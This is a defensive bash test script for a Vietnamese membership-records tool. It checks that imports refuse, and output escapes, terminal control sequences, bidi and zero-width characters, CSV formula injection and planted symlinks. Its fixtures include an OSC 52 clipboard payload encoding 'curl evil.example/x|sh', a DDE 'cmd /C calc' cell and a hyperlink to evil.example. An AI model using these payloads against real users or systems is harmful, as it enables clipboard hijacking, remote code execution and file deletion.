#!/usr/bin/env bash
# Issue 18: hostile text never reaches a terminal raw, and never gets in.
# Terminal controls (ESC, OSC 52 that writes the clipboard, C1 CSI), bidi
# overrides and zero-width characters in a CSV cell, an xlsx cell written
# with Excel's _x001B_ escape, a file name, and text already stored (an
# older database, an edit with another SQLite tool): every command prints
# them escaped; every importer refuses them with the line and column.
. "$CNSCD_SOURCE_DIR/tests/lib.sh"

PY=/usr/bin/python3
ESC=$'\x1b'
BEL=$'\x07'
CSI1=$'\xc2\x9b'   # U+009B, the one-byte CSI of C1
RLO=$'\xe2\x80\xae' # U+202E
ZWSP=$'\xe2\x80\x8b' # U+200B

# raw NAME TEXT : TEXT holds no terminal control, C1, bidi or zero-width
# character as such.
raw() {
	if LC_ALL=C grep -q -e "$ESC" -e "$BEL" -e "$CSI1" -e "$RLO" -e "$ZWSP" <<<"$2"; then
		fail "$1: printed raw" "$(od -c <<<"$2" | head -5)"
	else
		pass "$1: nothing printed raw"
	fi
}

expect_ok "units" import units "$FIXTURES/gso-2024.csv"
expect_ok "members" import members "$FIXTURES/members-vinh-my-a.csv"

# --- CSV cells -----------------------------------------------------------------
printf 'unit_code,full_name,birth_year\n31933,Lê Thị Hoa,%s]52;c;ZWNobyBwd25lZA==%s\n31933,Ngô %s]0;pwned%s Văn,1990\n31933,Trần%s31m Văn Bảy,1991\n31933,An%snÁ,1992\n31933,Ng%suyễn Tám,1993\n' \
	"$ESC" "$BEL" "$ESC" "$BEL" "$CSI1" "$RLO" "$ZWSP" >"$T/hostile.csv"
before=$(sql "SELECT count(*) FROM member")
expect_fail "a CSV with controls is refused" "dòng 2, cột 3" import members "$T/hostile.csv"
raw "import problems (CSV)" "$ERR"
expect_fail "the OSC 52 is shown escaped" 'Năm sinh «\\x1B\]52;c;ZWNobyBwd25lZA==\\x07» không hợp lệ' \
	import members "$T/hostile.csv"
expect_fail "an ESC in a name: refused where it is" "dòng 3, cột 2 .*Họ và tên chứa ký tự điều khiển \(U\+001B\)" \
	import members "$T/hostile.csv"
expect_fail "a C1 control in a name" "dòng 4, cột 2 .*ký tự điều khiển \(U\+009B\)" import members "$T/hostile.csv"
expect_fail "a bidi override in a name" "dòng 5, cột 2 .*ký tự đảo chiều chữ \(U\+202E\)" import members "$T/hostile.csv"
expect_fail "a zero-width space in a name" "dòng 6, cột 2 .*ký tự vô hình \(U\+200B\)" import members "$T/hostile.csv"
expect_eq "nothing of it was stored" "$(sql "SELECT count(*) FROM member")" "$before"

# --- xlsx cells with Excel's escapes -----------------------------------------------
if "$PY" -c 'import openpyxl' 2>/dev/null; then
	"$PY" - "$T/hostile.xlsx" <<'EOF'
import sys, openpyxl
wb = openpyxl.Workbook()
ws = wb.active
ws.append(['unit_code', 'full_name', 'birth_year'])
ws.append(['31933', 'Phan Văn Chín', '_x001B_]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==_x0007_'])
ws.append(['31933', 'Đỗ _x001B_[2J Mười', '1990'])
wb.save(sys.argv[1])
EOF
	expect_fail "an xlsx with _x001B_ is refused" "dòng 2, cột 3" import members "$T/hostile.xlsx"
	raw "import problems (xlsx)" "$ERR"
	expect_fail "the xlsx escape shown escaped" 'Năm sinh «\\x1B\]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\\x07»' \
		import members "$T/hostile.xlsx"
	expect_fail "an ESC from xlsx in a name" "dòng 3, cột 2 .*ký tự điều khiển \(U\+001B\)" import members "$T/hostile.xlsx"
else
	skip "python3-openpyxl missing: xlsx escapes"
fi

# --- text typed in the old fonts ----------------------------------------------------
printf 'unit_code,full_name,birth_year\n31933,NguyÔn V¨n Thö,1980\n31933,Nguyeãn Vaên Möôøi,1981\n' >"$T/legacy.csv"
before=$(sql "SELECT count(*) FROM member")
expect_fail "TCVN3 text is recognised, not stored" \
	"dòng 2, cột 2 .*«NguyÔn V¨n Thö» có vẻ được gõ bằng phông chữ cũ TCVN3 .*đọc ra là «Nguyễn Văn Thử»" \
	import members "$T/legacy.csv"
expect_fail "VNI text too" "dòng 3, cột 2 .*phông chữ cũ VNI .*đọc ra là «Nguyễn Văn Mười»" import members "$T/legacy.csv"
expect_eq "nothing stored" "$(sql "SELECT count(*) FROM member")" "$before"
expect_ok "--convert-legacy converts, with the user's agreement" import members --convert-legacy "$T/legacy.csv"
expect_out "and says so" "Đã chuyển các giá trị gõ bằng phông chữ cũ"
cn search nguyen van thu
expect_out "then search finds it" "Nguyễn Văn Thử"

# --- rejected rows are a spreadsheet too: formulas stay text ------------------------
printf 'unit_code,full_name,birth_year\n31933,=HYPERLINK("http://evil.example/x";"Bấm vào"),nineteen\n31933,+cmd|'"'"'/C calc'"'"'!A0,1990x\n31933,Hồ Văn Mười,1980\n' \
	>"$T/formula.csv"
expect_ok "rows with formula-looking cells are rejected aside" import members --skip-invalid "$T/formula.csv"
expect_eq "the formula is written as text" \
	"$(grep -c "^31933,\"'=HYPERLINK" "$T/formula.loi.csv")" 1
expect_eq "and the other one" "$(grep -c "^31933,'+cmd" "$T/formula.loi.csv")" 1
expect_eq "no cell of it starts a formula" "$(tail -n +2 "$T/formula.loi.csv" | grep -cE '(^|,)"?[=+@-]')" 0

# --- text already stored, printed by every command --------------------------------
# As an older cnscd or another SQLite tool could have left it.
sql "UPDATE member SET full_name = 'Nguyễn' || char(27) || ']52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==' || char(7) || ' An'
	WHERE full_name = 'Nguyễn Văn An';
	UPDATE unit SET name = 'Xã Vĩnh' || char(8238) || ' Mỹ A' || char(155) || '2J' WHERE code = '31933'"
cn search nguyen
raw "search" "$OUT"
expect_out "search shows the control escaped" 'Nguyễn\\x1B\]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\\x07 An'
cn log --limit 5
raw "log" "$OUT"
expect_out "log shows the bidi override escaped" 'Vĩnh\\u202E Mỹ A\\u009B2J'
cn stats --unit 961
raw "stats" "$OUT"
cn stats --unit 31933
raw "stats of the unit itself" "$OUT"
expect_out "stats shows the unit escaped" 'Vĩnh\\u202E Mỹ A'
cn export roster --unit 31933 -o -
raw "export -o - through a pipe keeps the CSV" "x"
if LC_ALL=C grep -q "$ESC" <<<"$OUT"; then pass "export -o - into a pipe: the CSV as it is"; else
	fail "export -o - into a pipe changed the data"; fi
if command -v script >/dev/null; then
	script -qec "$CNSCD --db $DB export roster --unit 31933 -o -" /dev/null >"$T/tty.out" 2>&1
	raw "export -o - on a terminal" "$(cat "$T/tty.out")"
	if grep -q 'Nguyễn\\x1B' "$T/tty.out"; then pass "export -o - on a terminal: escaped"; else
		fail "export -o - on a terminal" "$(head -c 600 "$T/tty.out")"; fi
else
	skip "no script(1): export to a terminal"
fi
# A workbook is XML: a control character would make it unreadable.
if "$PY" -c 'import openpyxl' 2>/dev/null; then
	expect_ok "export a roster with such names to xlsx" export roster --unit 31933 -o "$T/roster.xlsx"
	"$PY" - "$T/roster.xlsx" >"$T/xlsx.out" 2>&1 <<'PYEOF'
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
texts = [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
props = [wb.properties.title or '', wb.properties.subject or '', wb.properties.description or '']
def raw(t):
    return any((ord(ch) < 32 and ch not in '\t\n') or 0x7f <= ord(ch) <= 0x9f or ch == '\u202e' for ch in t)
print('raw controls:', len([t for t in texts + props if raw(t)]))
print('escaped name:', any('Nguyễn\\x1B]52;c;' in t for t in texts))
print('escaped title:', any('\\u202E' in t for t in props))
PYEOF
	expect_eq "openpyxl opens it, no control inside, names escaped" "$(cat "$T/xlsx.out")" \
		"raw controls: 0
escaped name: True
escaped title: True"
fi
sql "INSERT INTO bundle_conflict(tbl, row_uuid, row_id, local_values, incoming_values, source_id, source_unit, bundle_id)
	SELECT 'member', uuid, id, json_object('full_name', full_name, 'phone', '0912345678'),
	       json_object('full_name', full_name, 'phone', '09' || char(27) || '[8m12'), 'x', '31933' || char(27) || '[31m', 'b'
	FROM member WHERE full_name LIKE 'Nguyễn%'"
cn bundle conflicts
raw "bundle conflicts" "$OUT"
expect_out "conflicts show the controls escaped" 'Điện thoại: 0912345678 \| 09\\x1B\[8m12'

# A file name is text from outside too.
name="$T/x${ESC}]0;pwned${BEL}.cnscd"
cp "$FIXTURES/gso-2024.csv" "$name"
cn settings office_unit 961
cn bundle import "$name"
raw "a bundle's refusal" "$ERR"
if [ "$RC" -ne 0 ] && grep -q 'x\\x1B\]0;pwned\\x07.cnscd' <<<"$ERR"; then pass "the file name is shown escaped"; else
	fail "bundle refusal" "$ERR"; fi

# --- clean-up never follows a link -------------------------------------------------
# A shared export folder where someone planted a link named like cnscd's
# scratch folder, pointing at a folder of files; a folder of someone else's
# making (mode 0755) with that name; and a real abandoned scratch folder.
mkdir -p "$T/shared" "$T/victim" "$T/shared/.cnscd-tmp.notmine"
echo "keep me" >"$T/victim/thesis.docx"
echo "keep me too" >"$T/victim/lock"
echo "and me" >"$T/shared/.cnscd-tmp.notmine/file"
chmod 0755 "$T/shared/.cnscd-tmp.notmine"
ln -s "$T/victim" "$T/shared/.cnscd-tmp.evil"
mkdir -m 0700 "$T/shared/.cnscd-tmp.killed"
: >"$T/shared/.cnscd-tmp.killed/lock"
echo "half a report" >"$T/shared/.cnscd-tmp.killed/file"
# libxlsxwriter's own scratch file, if the kill came before it unlinked it.
echo "rows" >"$T/shared/.cnscd-tmp.killed/tmp.AbCdEfGhIj"
expect_ok "an export into the shared folder" export roster --unit 961 -o "$T/shared/roster.csv"
expect_eq "the linked folder's files are all there" "$(ls "$T/victim" | sort | tr '\n' ' ')" "lock thesis.docx "
expect_eq "the link itself is left alone" "$(readlink "$T/shared/.cnscd-tmp.evil")" "$T/victim"
expect_eq "a folder cnscd did not make is left alone" "$(cat "$T/shared/.cnscd-tmp.notmine/file")" "and me"
if [ -e "$T/shared/.cnscd-tmp.killed" ]; then fail "an abandoned scratch folder of cnscd is swept"; else
	pass "an abandoned scratch folder of cnscd is swept"; fi

# --- the form rule: the same refusal everywhere ----------------------------------
expect_fail "settings refuse a control too" "ký tự điều khiển" settings office_name "UBND${ESC}[2J xã"
raw "settings refusal" "$ERR"

t_done
